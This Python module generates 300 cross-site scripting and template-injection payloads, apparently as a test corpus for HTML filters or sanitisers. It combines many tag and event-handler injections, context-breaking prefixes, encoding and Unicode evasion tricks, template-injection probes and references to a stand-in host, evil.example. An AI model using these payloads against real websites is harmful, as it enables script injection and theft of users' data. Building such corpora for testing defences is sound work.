"""Three hundred ways to smuggle a script into a page, made by program: payloads of our own in the forms that filters and parsers trip over.

Each calls `owned()` or asks `evil.example` for something; a page that shows one as text does neither.
"""

from __future__ import annotations

from itertools import islice, product

CALL = "owned()"
HOST = "//evil.example/x"
TAGS = (
    "<script>{call}</script>",
    "<script src={host}></script>",
    "<img src=x onerror={call}>",
    "<svg onload={call}>",
    "<svg/onload={call}>",
    "<body onload={call}>",
    "<iframe src=javascript:{call}>",
    "<iframe srcdoc='<script>parent.{call}</script>'>",
    "<object data={host}>",
    "<embed src={host}>",
    "<link rel=stylesheet href={host}>",
    "<base href={host}>",
    "<meta http-equiv=refresh content='0;url={host}'>",
    "<form action={host}><button autofocus onfocus={call}>",
    "<input autofocus onfocus={call}>",
    "<details open ontoggle={call}>",
    "<video><source onerror={call}></video>",
    "<audio src=x onerror={call}>",
    "<marquee onstart={call}>",
    "<a href=javascript:{call}>go</a>",
    "<a href='data:text/html,<script>{call}</script>'>go</a>",
    "<style>@import '{host}';</style>",
    "<style>*{{background:url({host})}}</style>",
    "<div style='background:url({host})'>",
    "<math><mtext><script>{call}</script></mtext></math>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg onload={call}>#x'>",
    "<svg><foreignObject><iframe src=javascript:{call}>",
    "<template><script>{call}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<textarea></textarea><script>{call}</script>",
    "<title></title><script>{call}</script>",
    "<!--><script>{call}</script>-->",
    "<![CDATA[><script>{call}</script>]]>",
    "<img src='{host}'>",
    "<img srcset='{host} 1x'>",
    "<portal src={host}>",
    "<script type=module>import '{host}'</script>",
    "<x onclick={call} tabindex=0 autofocus onfocus={call}>",
)
BREAKS = (
    "{tag}",
    '">{tag}',
    "'>{tag}",
    "</title>{tag}",
    "</textarea>{tag}",
    "</script>{tag}",
    "</style>{tag}",
    "-->{tag}",
    "]]>{tag}",
    "&quot;>{tag}",
)
ATTRIBUTES = (
    '" onmouseover={call} x="',
    "' onmouseover={call} x='",
    "` onmouseover={call} x=`",
    '" autofocus onfocus={call} x="',
    "x onmouseover={call}",
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    "java\tscript:{call}",
    "java\nscript:{call}",
    "\x01javascript:{call}",
    "javascript&colon;{call}",
    "&#106;avascript:{call}",
    "data:text/html,<script>{call}</script>",
    "data:text/html;base64,PHNjcmlwdD5vd25lZCgpPC9zY3JpcHQ+",
    "vbscript:{call}",
    "http:{host}?<script>{call}</script>",
    "//evil.example",
    'https://evil.example/"><script>{call}</script>',
    "file:///etc/passwd",
    "blob:{host}",
)
TEMPLATES = (
    "{{{{ {call} }}}}",
    "{{% import os %}}",
    "${{{call}}}",
    "#{{{call}}}",
    "<%= {call} %>",
    "{{{{constructor.constructor('{call}')()}}}}",
    "{{{{ ''.__class__.__mro__ }}}}",
    "');{call};//",
    '");{call};//',
    "</script><script>{call}</script>",
    "\u2028{call}\u2029",
    "\\u003cscript\\u003e{call}",
    "%3Cscript%3E{call}%3C/script%3E",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#60;script&#62;{call}",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<ſcript>{call}</ſcript>",
    "＜script＞{call}＜/script＞",
    "<script\x00>{call}</script>",
    "<\x00script>{call}</script>",
    "<sc\u200bript>{call}</script>",
    "\u202e<script>{call}</script>",
    "\ufeff<script>{call}</script>",
    "<img src=x oner\u00adror={call}>",
    "<svg onload\x0c={call}>",
    "<img\x0bsrc=x\x0bonerror={call}>",
    "<img/src=x/onerror={call}>",
    "<IMG SRC=x ONERROR={call}>",
)
COUNT = 300


def vectors() -> list[str]:
    """The vectors, each once, always in the same order."""
    tags = [form.format(call=CALL, host=HOST) for form in TAGS]
    plain = [form.format(call=CALL, host=HOST) for form in (*ATTRIBUTES, *TEMPLATES)]
    broken = (form.replace("{tag}", tag) for form, tag in product(BREAKS, tags))
    return list(islice(dict.fromkeys((*plain, *broken)), COUNT))
